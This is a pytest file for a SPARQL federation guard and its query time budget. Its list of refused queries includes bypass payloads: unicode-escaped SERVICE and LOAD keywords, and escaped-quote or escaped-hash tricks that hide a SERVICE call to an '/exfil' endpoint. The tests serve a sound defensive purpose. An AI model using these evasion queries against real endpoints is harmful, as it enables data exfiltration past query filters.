"""The federation guard and its time budget on their own (no server): what is refused, what passes."""

from __future__ import annotations

import subprocess
import sys
import threading

import pytest

from integrationsgraph.sparql.guards import (
    FederationRefused,
    nesting_depth,
    refuse_federated_query,
    refuse_remote_update,
)
from integrationsgraph.sparql.time_budget import BudgetExceeded, time_budget

REFUSED = {
    "clause": "SELECT * WHERE { SERVICE <http://x/> { ?s ?p ?o } }",
    "escaped clause": "SELECT * WHERE { \\u0053ERVICE <http://x/> { ?s ?p ?o } }",
    "the bypass": "PREFIX ex: <http://e/> SELECT * WHERE { BIND(ex:a\\# AS ?x) "
    "LATERAL { SERVICE <http://127.0.0.1:1/exfil> { ?s ?p ?o } } }",
    "escaped quote hiding the rest": "PREFIX ex: <http://e/> SELECT * WHERE { BIND(ex:a\\' AS ?x) "
    "LATERAL { SERVICE <http://127.0.0.1:1/exfil> { ?s ?p ?o } } }",
    "triple term": "SELECT * WHERE { BIND(<<( <http://e/s> <http://e/p> <http://e/o> )>> AS ?t) "
    "SERVICE <http://x/> { ?s ?p ?o } }",
    "bad escape": "SELECT * WHERE { ?s ?p 'service \\U00110000' }",
    "bad escape without the word": "SELECT * WHERE { ?s ?p '\\U00110000' }",
    "syntax error": "SELECT * WHERE { ?s ?p 'service' ",
}
PASSED = {
    "no such word": "SELECT * WHERE { ?s ?p ?o }",
    "in a literal": "SELECT * WHERE { ?s ?p 'Servicestelle' }",
    "in a comment": "SELECT * WHERE { ?s ?p ?o } # SERVICE <http://x/> {}",
    "as a variable": "SELECT ?service WHERE { ?service ?p ?o }",
    "escaped in a literal": "SELECT * WHERE { BIND('\\u0053ERVICE' AS ?x) }",
    "a good escape": "SELECT * WHERE { ?s ?p '\\u00e4' }",
}


@pytest.mark.parametrize("query", REFUSED.values(), ids=REFUSED.keys())
def test_refused(query) -> None:
    with pytest.raises(FederationRefused, match="Federation is disabled"):
        refuse_federated_query(query)


@pytest.mark.parametrize("query", PASSED.values(), ids=PASSED.keys())
def test_passed(query) -> None:
    assert refuse_federated_query(query) is None


def test_nothing_the_guard_cannot_read_gets_through_even_when_harmless() -> None:
    harmless_but_unreadable = "SELECT * WHERE { ?a ?b ?c LATERAL { BIND('service' AS ?x) } }"
    with pytest.raises(FederationRefused, match="syntax the check cannot read"):
        refuse_federated_query(harmless_but_unreadable)


def test_rdflib_recursion_limits_are_refusals_not_errors() -> None:
    """On an ordinary thread (an in-process backend) rdflib runs out of recursion early."""
    outcome: list[BaseException] = []
    query = "# service\nSELECT * WHERE " + "{ " * 60 + "?s ?p ?o" + " }" * 60

    def check() -> None:
        try:
            refuse_federated_query(query)
        except FederationRefused as refusal:
            outcome.append(refusal)

    thread = threading.Thread(target=check)
    thread.start()
    thread.join()
    assert outcome
    assert "nesting too deep" in str(outcome[0])


# In a fresh interpreter (rdflib's parse actions learn their arity on first use), eight threads check the
# same harmless query at once and print how many failed.
FIRST_USE_RACE = """
import threading
from integrationsgraph.sparql.guards import refuse_federated_query
query = "# service\\nSELECT (1" + " + 1" * 20 + " AS ?x) WHERE { ?s ?p 'a' OPTIONAL { ?s ?q ?o } }"
failures = []
start = threading.Barrier(8)
def check():
    start.wait()
    try:
        refuse_federated_query(query)
    except BaseException as error:
        failures.append(repr(error))
threads = [threading.Thread(target=check) for _ in range(8)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()
print(len(failures), failures[:1])
"""


def test_threads_checking_at_once_get_the_same_answer_as_one() -> None:
    """Without the guard's lock, every one of them failed with a TypeError from inside pyparsing."""
    for _ in range(3):
        run = subprocess.run(
            [sys.executable, "-c", FIRST_USE_RACE], capture_output=True, text=True, check=True
        )
        assert run.stdout.strip() == "0 []", run.stdout + run.stderr


def test_an_update_with_load_is_refused() -> None:
    from rdflib.plugins.sparql.parser import parseUpdate  # noqa: PLC0415  (as the endpoint does)

    with pytest.raises(FederationRefused, match="LOAD"):
        refuse_remote_update(parseUpdate("\\u004cOAD <http://x/>"))


def test_nesting_depth_counts_every_kind_of_bracket() -> None:
    assert nesting_depth("") == 0
    assert nesting_depth("{ ( [ ] ) } { }") == 3
    assert nesting_depth("{" * 5 + "}" * 5 + "(") == 5


def _spin_forever() -> None:
    while True:
        pass


def test_a_time_budget_stops_pure_python_work() -> None:
    stopped = False
    try:
        with time_budget(0.05):
            _spin_forever()
    except BudgetExceeded:
        stopped = True
    assert stopped


def test_a_block_that_finishes_in_time_is_not_interrupted_later() -> None:
    with time_budget(0.05):
        pass
    finished = threading.Event()
    # Longer than the budget, in pure Python: a late exception would surface here.
    timer = threading.Timer(0.2, finished.set)
    timer.start()
    spins = 0
    while not finished.is_set():
        spins += 1
    assert spins > 0
